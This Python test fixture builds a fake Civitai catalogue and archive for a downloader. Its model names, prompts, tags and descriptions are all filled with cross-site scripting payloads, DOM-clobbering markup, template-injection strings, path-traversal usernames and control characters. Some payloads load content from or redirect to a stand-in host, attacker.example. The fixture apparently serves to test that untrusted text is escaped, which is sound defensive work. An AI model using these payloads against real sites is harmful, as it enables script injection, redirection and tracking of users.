"""A Civitai whose every name, prompt and description tries to run something in a reader's browser."""

from __future__ import annotations

import json
from pathlib import Path

from civitai_dl.testing import FakeFile, FakeImage, FakeModel, FakeVersion, World

FIRST = 400_001
RUN = "window.ran=1,alert(1)"
AWAY = "http://attacker.example"

TEXTS = (
    f"<script>{RUN}</script>",
    f'"><img src=x onerror="{RUN}">',
    f"'><svg onload='{RUN}'>",
    f"</title><script>{RUN}</script>",
    f"</textarea></select></style><script>{RUN}</script>",
    f"<!--><img src=x onerror={RUN}>-->",
    "{{7*7}} {% for x in y %} ${7*7} <%= 7*7 %>",
    f'" autofocus tabindex=1 onfocus="{RUN}" x="',
    f"` onmouseover={RUN} x=`",
    f"javascript:{RUN}//",
    f"data:text/html,<script>{RUN}</script>",
    "invoice\u202egnp.exe\u2066\u200b",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#34;&#x3e;",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<meta http-equiv="refresh" content="0;url={AWAY}/">',
    f'<base href="{AWAY}/"><link rel=prefetch href="{AWAY}/p">',
    f"\\\"-{RUN}-\\\"';{RUN}//",
    f"</code></p></a></dialog><form action={AWAY}/><button>go",
    f'<a id="lightbox" name="results" class="unveil" data-copy="x" href="{AWAY}">clobbered</a>',
    f"<img src={AWAY}/pixel.png srcset={AWAY}/2.png>",
)
"""What stands where plain text belongs."""

HTML = (
    f"<script>{RUN}</script><SCRIPT SRC={AWAY}/x.js></SCRIPT><script type=module>{RUN}</script>",
    f"<h1 onclick='{RUN}' onmouseover={RUN} style='background:url({AWAY}/bg)'>handlers</h1>"
    f"<img src=x onerror={RUN}><body onload={RUN}><input autofocus onfocus={RUN}>"
    f"<details open ontoggle={RUN}>x</details><video src=x onerror={RUN}></video>",
    f"<a href='javascript:{RUN}'>one</a><a href='&#106;avascript:{RUN}'>two</a>"
    f"<a href=' java\tscript:{RUN}'>three</a><a href='data:text/html,<script>{RUN}</script>'>4</a>"
    f"<a href='vbscript:x'>5</a><a href='https://civitai.com/' ping='{AWAY}/ping'>6</a>",
    f"<svg onload={RUN}><script>{RUN}</script><a xlink:href='javascript:{RUN}'><text>s</text></a>"
    f"<use href='data:image/svg+xml,<svg onload={RUN}>'/><animate onbegin={RUN} attributeName=x>"
    f"<foreignObject><iframe src='javascript:{RUN}'></iframe></foreignObject></svg>",
    f"<iframe src='javascript:{RUN}'></iframe><iframe srcdoc='<script>{RUN}</script>'></iframe>"
    f"<iframe src='{AWAY}/frame'></iframe><object data='{AWAY}/o'></object><embed src='{AWAY}/e'>"
    f"<portal src='{AWAY}'></portal><frameset onload={RUN}><applet code=x></applet>",
    f"<style>@import url({AWAY}/i.css);body{{background:url({AWAY}/bg.png);display:none}}</style>"
    f"<link rel=stylesheet href={AWAY}/s.css><link rel=dns-prefetch href={AWAY}>"
    f"<p style='position:fixed;inset:0;background:url({AWAY}/p)'>covered</p>",
    f"<meta http-equiv=refresh content='0;url={AWAY}/'><base href='{AWAY}/'>"
    f"<form action='{AWAY}/'><input name=q><button formaction='javascript:{RUN}'>go</button></form>"
    f"<isindex action={AWAY}><keygen autofocus onfocus={RUN}>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}"
    f"&gt;'><math><mi//xlink:href='data:x,<script>{RUN}</script>'></math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>"
    f"<template><img src=x onerror={RUN}></template><xmp><p title='</xmp><img onerror={RUN} src=x>'>"
    f"<!--<img src='--><img src=x onerror={RUN}//'><![CDATA[<script>{RUN}</script>]]>",
    f"<img src='{AWAY}/pixel.gif' srcset='{AWAY}/2x 2x'><video poster='{AWAY}/p.png' autoplay>"
    f"<source src='{AWAY}/v.mp4'></video><audio src='{AWAY}/a.mp3' autoplay></audio>"
    f"<table background='{AWAY}/t.png'><tr><td>x</td></tr></table><picture><source srcset={AWAY}>",
    "<a id=said name=body>1</a><form id=results name=documentElement><input name=children></form>"
    "<img id=mature name=querySelector><div class='unveil veiled shot open' data-copy='evil' "
    "data-more data-grid>2</div><dialog id=lightbox open><div class=stage></div></dialog>",
    f"</div></section></main></body></html><script>{RUN}</script><plaintext><b>the rest",
)
"""What stands where a description belongs."""


def hostile_world() -> World:
    """One model for each text, and images whose prompts are the same texts."""
    world = World()
    for place, text in enumerate(TEXTS):
        world.model(_model(place, text))
    for place, text in enumerate(TEXTS):
        version = world.models[place].versions[0]
        world.image(
            FakeImage(
                "png",
                username="mallory",
                version_ids=(version.id,),
                meta={
                    "prompt": f"trick{place} {text}",
                    "negativePrompt": text,
                    "sampler": text,
                    text: text,
                    "resources": [{"name": text, "type": text, "weight": 1}],
                    "comfy": text,
                },
            )
        )
    return world


def _model(place: int, text: str) -> FakeModel:
    return FakeModel(
        FIRST + place,
        text,
        "mallory" if place % 2 else "Trent",
        description=f"<p>before</p>{HTML[place % len(HTML)]}<p>after</p>",
        tags=(text, f"tag{place}"),
        versions=[
            FakeVersion(
                f"{text} v2",
                files=[FakeFile(f"{text}.safetensors", 4000 + place)],
                images=[FakeImage("png")],
                description=HTML[(place + 5) % len(HTML)],
                base_model=text,
                trained_words=[text, f"word{place}"],
            ),
            FakeVersion("v1", files=(), images=()),
        ],
    )


def make_worse(archive: Path) -> None:
    """Write into the documents of an archive what no service would send: anybody can edit them."""
    for place, text in enumerate(TEXTS):
        number = FIRST + place
        path = archive / f"model_{number // 1000}" / str(number) / "model.json"
        model = json.loads(path.read_text("utf-8"))
        model["type"] = text
        model["creator"] = {"username": f"{text}/../{place}", "image": f"{AWAY}/avatar.png"}
        for version in model["modelVersions"]:
            version["publishedAt"] = text
            for file in version["files"]:
                file["type"] = file["pickleScanResult"] = file["virusScanResult"] = text
                file["metadata"] = {"format": text}
            for image in version["images"]:
                image["meta"] = {"prompt": text, "Model": text}
                image["width"] = image["height"] = text
        if place == 0:
            model["tags"] = ["nul\0bell\a", "half \ud800 of a sign", "\udfff", "\u202ertl"]
            model["name"] += " \0\x1b[31m"
        path.write_text(json.dumps(model), "utf-8")
    for place, path in enumerate(sorted(archive.glob("model_*/*/gallery/*/*.json"))):
        image = json.loads(path.read_text("utf-8"))
        image["username"] = TEXTS[place % len(TEXTS)]
        path.write_text(json.dumps(image), "utf-8")
